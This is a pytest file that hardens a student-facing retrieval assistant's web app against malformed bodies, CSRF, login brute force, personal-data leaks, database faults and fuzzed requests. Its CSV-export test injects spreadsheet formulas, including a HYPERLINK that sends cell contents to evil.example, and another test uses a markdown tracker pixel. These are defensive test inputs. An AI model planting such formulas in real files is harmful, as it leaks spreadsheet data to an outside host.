"""Hostile input, faults and misuse (issue 10): each test here failed before its fix.

The web app runs with a stub assistant (no model): FastAPI's test client in process, or a real uvicorn
server on a free loopback port for the concurrency test. CLI errors run the installed `rag` command."""

import asyncio
import base64
import csv
import io
import json
import os
import re
import socket
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import require, served_on_loopback
from test_web import StubAnswer, StubAssistant, auth

require("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

import rag  # noqa: E402
from rag.errors import InvalidSettingError  # noqa: E402
from rag.settings import Settings  # noqa: E402
from rag.store import ExchangeStore, mask_personal_data  # noqa: E402
from rag.web import create_app  # noqa: E402
from rag.web.render import question_html  # noqa: E402

STAFF = ("staff", "s3cret")


@pytest.fixture
def client(tmp_path):
    assistant, store = StubAssistant(), ExchangeStore(tmp_path / "data")
    with TestClient(create_app(assistant, store, *STAFF), raise_server_exceptions=False) as c:
        c.assistant, c.store = assistant, store
        yield c


def assert_json_error(response, *statuses):
    assert response.status_code in statuses, (response.status_code, response.text[:300])
    assert "Traceback" not in response.text and isinstance(response.json()["error"], str)


# --- Request limits and malformed input -------------------------------------------------------------

def test_a_huge_history_is_refused_with_413_before_it_is_read(client):
    response = client.post("/api/ask", json={"question": "grant?", "history": ["x" * 1000] * 200})
    assert_json_error(response, 413)
    assert client.assistant.calls == []


def test_a_huge_chunked_body_without_length_is_refused_with_413(client):
    chunks = (b'{"question": "grant?", "history": ["' + b"x" * 10_000 + b'"' for _ in range(1))
    body = iter([*chunks, *([b"x" * 10_000] * 10), b'"]}'])
    assert_json_error(client.post("/api/ask", content=body, headers={"content-type": "application/json"}), 413)


@pytest.mark.parametrize("path, body", [
    ("/api/feedback", b"{not json"),
    ("/api/ask", b"{not json"),
    ("/api/ask", b'{"question": {"nested": {"json": [1, 2]}}}'),
    ("/api/ask", b'{"question": "grant?", "history": 5}'),
    ("/api/ask", b'{"question": "grant?", "history": [{"role": "system", "content": "x"}]}'),
    ("/api/ask", b'{"question": "grant?", "history": [[["deep"]]]}'),
    ("/api/ask", b'{"question": "grant?", "session": ["a", "list"]}'),
    ("/api/ask", b'{"question": "grant?", "session": 12}'),
    ("/api/ask", b'["a", "list"]'),
    ("/api/ask", b'"just a string"'),
    ("/api/ask", b"null"),
    ("/api/ask", b'{"question": "\\ud800 lone surrogate"}'),
    ("/api/ask", b"\xff\xfe not utf-8"),
    ("/api/ask", b"[" * 20_000 + b"]" * 20_000),
    ("/api/feedback", b'{"exchange_id": ["x"], "helpful": true}'),
    ("/api/feedback", b'{"exchange_id": "x", "helpful": "yes"}'),
    ("/api/feedback", b'{"exchange_id": "x", "helpful": true, "comment": {"a": 1}}'),
    ("/api/feedback", b'{"exchange_id": "x", "helpful": true, "comment": "\\udfff"}'),
    ("/api/feedback", b"[]"),
])
def test_malformed_bodies_get_a_4xx_json_error_never_a_500(client, path, body):
    assert_json_error(client.post(path, content=body, headers={"content-type": "application/json"}), 400, 422)


@pytest.mark.parametrize("body, words", [
    ({"question": "x" * 2001}, "question"),
    ({"question": "grant?", "history": ["earlier"] * 21}, "history"),
    ({"question": "grant?", "history": ["y" * 1000] * 9}, "history"),
    ({"question": "grant?", "session": "s" * 65}, "session"),
])
def test_limits_on_question_history_and_session_are_clear_422s(client, body, words):
    response = client.post("/api/ask", json=body)
    assert_json_error(response, 422)
    assert words in response.json()["error"]


def test_history_of_role_content_turns_passes_the_students_questions_oldest_first(client):
    history = [{"role": "user", "content": "How much is the Erasmus grant?"},
               {"role": "assistant", "content": "210€ per month [1]"},
               {"role": "user", "content": "and in Germany?"}]
    assert client.post("/api/ask", json={"question": "and for Mermoz?", "history": history}).status_code == 200
    assert client.assistant.calls[-1] == ("and for Mermoz?", ["How much is the Erasmus grant?", "and in Germany?"])


def test_the_session_is_stored_masked(client):
    client.post("/api/ask", json={"question": "grant?", "session": "jean.dupont@gmail.com"})
    assert client.store.recent()[0]["session"] == "[email]"


# --- Staff: CSRF, throttled logins, UTF-8 passwords ---------------------------------------------------

def staff_token(client, credentials=STAFF) -> str:
    page = client.get("/staff", headers=auth(*credentials)).text
    return re.search(r"name='csrf' value='([0-9a-f]+)'", page).group(1)


def test_a_review_posted_without_the_forms_token_is_refused(client):
    exchange = client.post("/api/ask", json={"question": "Erasmus code?"}).json()["exchange_id"]
    forged = {"id": exchange, "verdict": "wrong", "correction": "poisoned"}
    assert_json_error(client.post("/staff/review", data=forged, headers=auth(*STAFF)), 403)
    assert_json_error(client.post("/staff/review", data={**forged, "csrf": "0" * 64}, headers=auth(*STAFF)), 403)
    assert client.store.recent()[0]["verdict"] is None
    saved = client.post("/staff/review", data={**forged, "csrf": staff_token(client)}, headers=auth(*STAFF))
    assert saved.status_code == 200 and client.store.recent()[0]["verdict"] == "wrong"


def test_failed_logins_are_throttled_per_user_name(client):
    for _ in range(5):
        assert client.get("/staff", headers=auth("staff", "guess")).status_code == 401
    blocked = client.get("/staff", headers=auth(*STAFF))   # even the right password waits now
    assert_json_error(blocked, 429)
    assert int(blocked.headers["retry-after"]) >= 1


def test_a_non_ascii_staff_password_works(tmp_path):
    app = create_app(StubAssistant(), ExchangeStore(tmp_path / "d"), "équipe", "mot de passe « sûr » 学生")
    with TestClient(app) as c:
        assert c.get("/staff", headers=auth("équipe", "mot de passe « sûr » 学生")).status_code == 200
        assert c.get("/staff", headers=auth("équipe", "mot de passe")).status_code == 401
        latin1 = {"Authorization": "Basic " + base64.b64encode("équipe:x".encode("latin-1")).decode()}
        assert c.get("/staff", headers=latin1).status_code == 401


def test_csv_export_cells_cannot_run_as_formulas(client):
    for question in ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+33 cmd", "-2+3", "@SUM(A1)", "\t=1+1"]:
        client.post("/api/ask", json={"question": question})
    rows = list(csv.DictReader(io.StringIO(client.get("/staff/export.csv", headers=auth(*STAFF)).text)))
    assert len(rows) == 5
    for row in rows:
        assert row["question"].startswith("'") and not row["question"].startswith(("=", "+", "-", "@", "\t", "\r"))


# --- Masking --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, masked", [
    ("appelez-moi au 06\u00a012\u00a034\u00a056\u00a078", "appelez-moi au [phone]"),
    ("appelez-moi au 06\u202f12\u202f34\u202f56\u202f78", "appelez-moi au [phone]"),
    ("tel +33\u00a06\u00a012\u00a034\u00a056\u00a078 svp", "tel [phone] svp"),
    ("mon numéro 0327511023", "mon numéro [phone]"),
    ("UK: +44 20 7946 0958", "UK: [phone]"),
    ("écrivez à jean.dupont＠gmail.com", "écrivez à [email]"),
    ("ｊｅａｎ＠ｅｘａｍｐｌｅ．ｏｒｇ merci", "[email] merci"),
    ("Quel est le code Erasmus 999884537 ?", "Quel est le code Erasmus 999884537 ?"),
    ("Année 2024-2025, du 01/09 au 30/06", "Année 2024-2025, du 01/09 au 30/06"),
])
def test_masking_catches_no_break_spaces_and_full_width_at(text, masked):
    assert mask_personal_data(text) == masked


def test_feedback_comments_are_stored_masked(client):
    exchange = client.post("/api/ask", json={"question": "grant?"}).json()["exchange_id"]
    comment = "call me 06\u202f12\u202f34\u202f56\u202f78 or jo＠example.org"
    assert client.post("/api/feedback", json={"exchange_id": exchange, "helpful": False, "comment": comment}).status_code == 200
    assert client.store.recent()[0]["comment"] == "call me [phone] or [email]"


# --- Storage: best effort for answers, retention, private files ---------------------------------------

def lock_database(store: ExchangeStore) -> sqlite3.Connection:
    """Another process's write lock, held until closed: every write of the app then fails (SQLITE_BUSY)."""
    other = sqlite3.connect(store.path, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    return other


def test_a_locked_database_costs_no_answer_and_health_says_degraded(client):
    assert client.get("/healthz").json()["status"] == "ok"
    lock = lock_database(client.store)
    try:
        started = time.monotonic()
        response = client.post("/api/ask", json={"question": "How much is the Erasmus grant?"})
        assert response.status_code == 200 and response.json()["citations"] and response.json()["exchange_id"] is None
        assert time.monotonic() - started < 3   # a short busy timeout, not 30 s per answer
        assert_json_error(client.post("/api/feedback", json={"exchange_id": "x" * 32, "helpful": True}), 503)
    finally:
        lock.close()
    health = client.get("/healthz").json()
    assert health["status"] == "degraded" and health["storage_failures"] >= 1


def test_a_full_database_raises_a_counted_error(tmp_path):
    store = ExchangeStore(tmp_path / "data")
    db = store._connect()
    db.execute(f"PRAGMA max_page_count={db.execute('PRAGMA page_count').fetchone()[0]}")   # the disk is full
    with pytest.raises(sqlite3.Error):
        store.record("s", {**StubAnswer("x" * 20_000, []).to_dict(), "answer": "y" * 50_000})
    assert store.failures == 1 and store.degraded


def test_retention_runs_on_a_timer_without_any_request(tmp_path):
    store = ExchangeStore(tmp_path / "data", retention_days=1)
    with TestClient(create_app(StubAssistant(), store, purge_every_s=0.2)):
        store.record("s", StubAnswer("old question", []).to_dict())
        store._connect().execute("UPDATE exchanges SET created_at = created_at - 3 * 86400")
        deadline = time.monotonic() + 5
        while store.recent() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert store.recent() == []


def test_deleted_text_is_gone_from_the_database_files(tmp_path):
    store = ExchangeStore(tmp_path / "data", retention_days=1)
    marker = "zorglub-marker-question-" * 4
    store.record("s", StubAnswer(marker, []).to_dict())
    store.record("s", StubAnswer("a recent question", []).to_dict())
    store.checkpoint()   # the row now sits in the database file itself
    store._connect().execute("UPDATE exchanges SET created_at = created_at - 3 * 86400 WHERE question LIKE 'zorglub%'")
    assert store.purge() == 1
    for path in store.path.parent.iterdir():
        assert marker[:20].encode() not in path.read_bytes(), path.name


def test_database_files_are_readable_by_their_owner_only(tmp_path):
    store = ExchangeStore(tmp_path / "data")
    store.record("s", StubAnswer("q", []).to_dict())
    files = [p for p in store.path.parent.iterdir() if p.name.startswith("exchanges.sqlite3")]
    assert len(files) >= 2   # the database and its WAL at least
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name


# --- No outside connection, no upload, no docs, headers ------------------------------------------------

def test_no_upload_route_and_no_api_docs(client):
    for path in ("/gradio_api/upload", "/upload"):
        assert client.post(path, files={"files": ("a.txt", b"x" * 1000)}).status_code == 404
    for path in ("/docs", "/redoc", "/openapi.json", "/gradio_api/openapi.json"):
        assert client.get(path).status_code == 404


def test_security_headers_on_every_response(client):
    for response in (client.get("/"), client.get("/healthz"), client.get("/staff"),
                     client.post("/api/ask", json={}), client.get("/nowhere")):
        csp = response.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "img-src 'self' data: blob:;" in csp
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"


def test_gradio_analytics_and_run_history_are_off(client):
    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False"
    config = client.get("/config").json()
    assert config.get("run_history") is False and config.get("analytics_enabled") is False


def test_a_markdown_image_in_a_question_is_shown_as_text_not_fetched(client):
    # The chat reads no markdown in messages and escapes every tag: both stay text, nothing is fetched.
    shown = question_html("see ![x](https://tracker.example/pixel.png) and <img src=x>", "en")
    assert "<img" not in shown and "&lt;img src=x&gt;" in shown and "![x](https://tracker.example/pixel.png)" in shown
    chat = next(c for c in client.get("/config").json()["components"] if c.get("props", {}).get("elem_id") == "chat")
    assert chat["props"]["render_markdown"] is False and chat["props"]["sanitize_html"] is True


def test_the_loopback_guard_refuses_outside_hosts():
    from conftest import _OUTSIDE
    with pytest.raises(OSError):
        socket.create_connection(("192.0.2.1", 80), timeout=1)
    assert _OUTSIDE == ["192.0.2.1"]
    _OUTSIDE.clear()


# --- rag serve errors: one line, exit 2, no traceback (the installed command, as a user runs it) -----------

def run_rag(*argv, env=None, timeout=60):
    command = Path(sys.executable).parent / "rag"
    if not command.exists():
        pytest.fail(f"{command} not found: pip install -e .")
    # The installed script with this checkout's code (an editable install may point at another checkout).
    environ = {**os.environ, "PYTHONPATH": str(Path(rag.__file__).resolve().parents[1]), **(env or {})}
    result = subprocess.run([str(command), *argv], capture_output=True, text=True, env=environ, timeout=timeout)
    return result.returncode, result.stderr


@pytest.mark.parametrize("argv, env, words", [
    (["serve", "--port", "99999999"], {}, "65535"),
    (["serve", "--port", "0"], {}, "65535"),
    (["serve", "--port", "http"], {}, "port"),
    (["serve"], {"RAG_PORT": "78x"}, "RAG_PORT"),
    (["serve"], {"RAG_ABSTAIN_THRESHOLD": "nan"}, "abstain_threshold"),
    (["serve"], {"RAG_RETENTION_DAYS": "-3"}, "retention_days"),
    (["serve"], {"RAG_ASK_THREADS": "many"}, "RAG_ASK_THREADS"),
    (["serve", "--host", "no-such-host.invalid."], {}, "host"),
])
def test_serve_errors_are_one_line_and_exit_2(tmp_path, argv, env, words):
    status, err = run_rag(*argv, env={"RAG_INDEX_DIR": str(tmp_path / "none"), "RAG_DATA_DIR": str(tmp_path / "d"), **env})
    assert status == 2 and words in err and err.count("\n") == 1 and "Traceback" not in err, err


def test_serve_on_a_port_in_use_is_one_line_and_exit_2(tmp_path):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        status, err = run_rag("serve", "--port", str(port), env={"RAG_INDEX_DIR": str(tmp_path / "none")})
    assert status == 2 and str(port) in err and err.count("\n") == 1 and "Traceback" not in err, err


@pytest.mark.parametrize("value", ["nan", "inf", "-inf"])
def test_non_finite_settings_are_refused(value):
    with pytest.raises(InvalidSettingError, match="abstain_threshold"):
        Settings.from_env({"RAG_ABSTAIN_THRESHOLD": value})


# --- Fuzzing the API's OpenAPI schema --------------------------------------------------------------------

FUZZ_EXAMPLES = int(os.environ.get("RAG_FUZZ_EXAMPLES", "300"))   # per endpoint; by hand: RAG_FUZZ_EXAMPLES=1000


def from_schema(schema: dict, components: dict, st):
    """A Hypothesis strategy for the JSON Schema subset FastAPI emits for the request models ($ref, anyOf,
    object, array, string, boolean, enum/const), with lengths up to twice the limits so both sides of each
    limit are tried, and extra or missing fields now and then."""
    if "$ref" in schema:
        return from_schema(components["schemas"][schema["$ref"].rsplit("/", 1)[-1]], components, st)
    if "anyOf" in schema:
        return st.one_of(*(from_schema(s, components, st) for s in schema["anyOf"]))
    if "const" in schema or "enum" in schema:
        return st.sampled_from(schema.get("enum") or [schema["const"]]) | st.text(max_size=8)
    kind = schema.get("type")
    if kind == "string":
        limit = schema.get("maxLength", 100)
        return st.text(max_size=8) | st.text(min_size=limit - 2, max_size=limit + 2) | st.text(
            st.characters(codec=None, categories=["Cs", "Zs", "So", "Lo", "Cc"]), max_size=20)
    if kind == "boolean":
        return st.booleans()
    if kind == "null":
        return st.none()
    if kind == "array":
        limit = schema.get("maxItems", 10)
        return st.lists(from_schema(schema.get("items", {}), components, st), max_size=2 * limit)
    if kind == "object":
        properties = {name: from_schema(sub, components, st) for name, sub in schema.get("properties", {}).items()}
        required = set(schema.get("required", []))
        return st.fixed_dictionaries({k: v for k, v in properties.items() if k in required},
                                     optional={**{k: v for k, v in properties.items() if k not in required},
                                               "unexpected": st.integers()})
    return st.none() | st.integers() | st.text(max_size=8)


def request_strategy(app):
    """Bodies for /api/ask and /api/feedback: valid-shaped ones drawn from the app's OpenAPI schema (so the
    deep checks are reached), arbitrary JSON, and arbitrary bytes."""
    st = require("hypothesis.strategies")
    schema = app.openapi()
    components = schema.get("components", {})
    json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
                               lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
                               max_leaves=20)
    per_path = []
    for path in ("/api/ask", "/api/feedback"):
        ref = schema["paths"][path]["post"]["requestBody"]["content"]["application/json"]["schema"]
        from_openapi = from_schema(ref, components, st).map(lambda v: json.dumps(v).encode())
        bodies = st.one_of(from_openapi, from_openapi, from_openapi, json_values.map(lambda v: json.dumps(v).encode()),
                           st.binary(max_size=200))
        per_path.append(st.tuples(st.just(path), bodies))
    return st.one_of(*per_path)


def test_fuzzed_api_requests_never_get_a_500_or_a_traceback(tmp_path):
    hypothesis = require("hypothesis")
    app = create_app(StubAssistant(), ExchangeStore(tmp_path / "data"))
    statuses: dict[int, int] = {}
    with TestClient(app, raise_server_exceptions=False) as c:
        @hypothesis.settings(max_examples=2 * FUZZ_EXAMPLES, deadline=None, database=None,
                             suppress_health_check=list(hypothesis.HealthCheck))
        @hypothesis.given(request_strategy(app))
        def fuzz(request):
            path, body = request
            response = c.post(path, content=body, headers={"content-type": "application/json"})
            statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
            assert response.status_code < 500 and "Traceback" not in response.text, (path, body[:200], response.text[:300])
            if response.status_code >= 400:
                assert isinstance(response.json()["error"], str)

        fuzz()
    print(f"fuzz: {sum(statuses.values())} requests, statuses {dict(sorted(statuses.items()))}")
    assert sum(statuses.values()) >= FUZZ_EXAMPLES and statuses.get(200, 0) > 0


# --- 50 concurrent clients, the database failing halfway ------------------------------------------------

def test_fifty_clients_get_every_answer_while_the_database_fails_halfway(tmp_path):
    httpx = require("httpx")
    store = ExchangeStore(tmp_path / "data")
    app = create_app(StubAssistant(), store)
    # 6 s in the suite; RAG_FAILOVER_SECONDS=60 for the full minute (docs/figures.md)
    seconds = float(os.environ.get("RAG_FAILOVER_SECONDS", "6"))
    results = {"ok": 0, "unstored": 0, "failed": []}

    async def student(client, number, stop_at):
        while time.monotonic() < stop_at:
            try:
                response = await client.post(url + "/api/ask", json={"question": f"Erasmus grant? ({number})"})
                if response.status_code == 200 and response.json()["citations"]:
                    results["ok"] += 1
                    results["unstored"] += response.json()["exchange_id"] is None
                else:
                    results["failed"].append(response.status_code)
            except httpx.HTTPError as exc:
                results["failed"].append(type(exc).__name__)

    async def run():
        stop_at = time.monotonic() + seconds
        limits = httpx.Limits(max_connections=60)
        async with httpx.AsyncClient(timeout=30, limits=limits) as client:
            clients = asyncio.gather(*(student(client, n, stop_at) for n in range(50)))
            await asyncio.sleep(seconds / 2)
            lock = lock_database(store)   # another process takes the write lock and keeps it: every write fails
            try:
                await clients
                return (await client.get(url + "/healthz")).json()
            finally:
                lock.close()

    with served_on_loopback(app) as url:
        health = asyncio.run(run())
    assert results["failed"] == [] and results["ok"] > 100 and results["unstored"] > 0, results
    assert health["status"] == "degraded" and health["storage_failures"] == results["unstored"]
